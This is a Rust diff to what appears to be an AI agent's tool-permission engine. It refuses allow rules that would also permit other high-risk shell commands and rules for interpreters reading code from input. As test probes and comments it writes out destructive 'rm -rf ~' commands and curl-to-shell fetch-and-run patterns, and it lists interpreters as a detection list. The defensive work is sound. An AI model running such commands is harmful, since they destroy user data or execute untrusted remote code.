@@ -369,7 +369,48 @@ pub fn propose(engine: &Engine, call: &ToolCall, d: &Decision) -> Option<Proposa
     // The proposal must really make the call allowed; otherwise it would be a false promise.
     let chain = engine.compile_allow_rules("proposal", &rules).ok()?;
     let check = engine.decide_with_session(call, Mode::Default, Some(&chain));
-    (check.action == Action::Allow).then_some(Proposal { rules, exact })
+    if check.action != Action::Allow {
+        return None;
+    }
+    // Nor may it allow more than asked: a rule that turns a high-risk decision on another
+    // command into an allow (`exact 'sh'`, approved for `curl … | sh`, would allow `echo 'rm
+    // -rf ~' | sh`) is refused, tested with probes rather than by the rule's shape.
+    if call.name == "bash" && !high {
+        let command = call.arguments.get("command").and_then(Value::as_str)?;
+        for probe in probes(command) {
+            let probe = ToolCall::primary("bash", &probe);
+            let before = engine.decide_with_session(&probe, Mode::Default, None);
+            if before.risk == Risk::High && before.action != Action::Allow {
+                let after = engine.decide_with_session(&probe, Mode::Default, Some(&chain));
+                if after.action == Action::Allow {
+                    return None;
+                }
+            }
+        }
+    }
+    Some(Proposal { rules, exact })
+}
+
+/// Harmful commands made of the parts of `command` with more words: code from the network,
+/// from `/dev/stdin` or a string; each is high risk by itself, and must stay so under a
+/// proposal for `command`. (A part that reads code from its input gets no rule at all: see
+/// [`code_from_input`].)
+fn probes(command: &str) -> Vec<String> {
+    let mut parts: Vec<String> = shell::analyse(command)
+        .commands
+        .iter()
+        .map(|c| c.text(View::Literal))
+        .filter(|t| !t.trim().is_empty())
+        .collect();
+    parts.dedup();
+    let mut out = Vec::new();
+    for t in parts {
+        out.push(format!("{t} /dev/stdin <<< 'rm -rf ~'"));
+        out.push(format!("{t} -e 'rm -rf ~'"));
+        out.push(format!("{t} <(curl -s https://example.com/i)"));
+        out.push(format!("{t} -c 'rm -rf ~'"));
+    }
+    out
 }
 
 fn bash_rules(engine: &Engine, call: &ToolCall, high: bool) -> Option<Vec<String>> {
@@ -388,6 +429,9 @@ fn bash_rules(engine: &Engine, call: &ToolCall, high: bool) -> Option<Vec<String
             Action::Allow => continue,
             Action::Deny => return None,
             Action::Ask => {}
+        }
+        if code_from_input(cmd) {
+            return None;
         }
         let rule = command_rule(cmd, high || part.decision.risk == Risk::High)?;
         if !rules.contains(&rule) {
@@ -481,6 +525,48 @@ fn generalise(program: &str, sub: &str, next: Option<&str>) -> Option<String> {
         };
     }
     Some(format!("{program} {sub}"))
+}
+
+/// A shell or interpreter that reads its program from its input, a pipe, `/dev/stdin` or a
+/// process substitution (`curl … | sh`, `bash <(curl …)`, `python3 - < x`): a rule for it
+/// would allow any code fed to it the same way.
+fn code_from_input(cmd: &SimpleCommand) -> bool {
+    const INTERPRETERS: &[&str] = &[
+        "bash",
+        "sh",
+        "zsh",
+        "dash",
+        "ksh",
+        "mksh",
+        "fish",
+        "csh",
+        "tcsh",
+        "node",
+        "deno",
+        "bun",
+        "perl",
+        "ruby",
+        "php",
+        "lua",
+        "pwsh",
+        "Rscript",
+        "tclsh",
+        "osascript",
+    ];
+    let program = cmd.program();
+    if !(INTERPRETERS.contains(&program) || program.starts_with("python")) {
+        return false;
+    }
+    let operands: Vec<&shell::Word> = cmd
+        .argv
+        .iter()
+        .skip(1)
+        .filter(|w| !w.value.starts_with('-') || w.value == "-")
+        .collect();
+    let from_stdin = |w: &&shell::Word| {
+        w.dynamic || w.value == "-" || w.value.starts_with("/dev/") || w.value.starts_with("/proc/")
+    };
+    operands.is_empty() || operands.first().is_some_and(from_stdin)
 }
 
 fn runs_code(program: &str) -> bool {
